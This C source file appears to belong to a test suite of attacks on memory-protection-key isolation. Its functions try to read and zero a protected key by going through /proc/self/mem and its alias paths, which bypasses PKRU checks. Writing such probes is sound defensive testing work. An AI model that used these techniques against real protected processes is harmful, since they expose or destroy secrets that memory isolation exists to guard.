// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A11: /proc/self/mem reaches memory without looking at PKRU.
#include "evil.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int evil_proc_mem_read(const struct evil_target *target) {
    unsigned char copy[EVIL_KEY_MAX];
    size_t size = target->key_size < sizeof copy ? target->key_size : sizeof copy;
    int fd = open("/proc/self/mem", O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        return evil_failed("open of /proc/self/mem");
    if (pread(fd, copy, size, (off_t)(uintptr_t)target->key) != (ssize_t)size)
        return evil_failed("pread of /proc/self/mem");
    return evil_got(target, copy, "/proc/self/mem");
}

int evil_proc_mem_write(const struct evil_target *target) {
    unsigned char zeros[EVIL_KEY_MAX] = {0};
    unsigned char back[EVIL_KEY_MAX];
    size_t size = target->key_size < sizeof zeros ? target->key_size : sizeof zeros;
    int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

    if (fd < 0)
        return evil_failed("open of /proc/self/mem");
    if (pwrite(fd, zeros, size, (off_t)(uintptr_t)target->key) != (ssize_t)size)
        return evil_failed("pwrite of /proc/self/mem");
    if (pread(fd, back, size, (off_t)(uintptr_t)target->key) != (ssize_t)size ||
        memcmp(back, zeros, size) != 0)
        return evil_failed_because("the key did not change");
    return evil_succeeded("zeroed %zu key bytes by /proc/self/mem", size);
}

// The same file by its other names.
int evil_proc_mem_names(const struct evil_target *target) {
    unsigned char copy[EVIL_KEY_MAX];
    size_t size = target->key_size < sizeof copy ? target->key_size : sizeof copy;
    char name[3][64] = {"/proc/thread-self/mem"};

    snprintf(name[1], sizeof name[1], "/proc/self/task/%d/mem", gettid());
    snprintf(name[2], sizeof name[2], "/proc/%d/mem", getpid());
    for (int i = 0; i < 3; i++) {
        int fd = open(name[i], O_RDONLY | O_CLOEXEC);

        if (fd >= 0 && pread(fd, copy, size, (off_t)(uintptr_t)target->key) == (ssize_t)size)
            return evil_got(target, copy, "another name of /proc/self/mem");
    }
    return evil_failed("open of thread-self/mem, task/TID/mem and PID/mem");
}
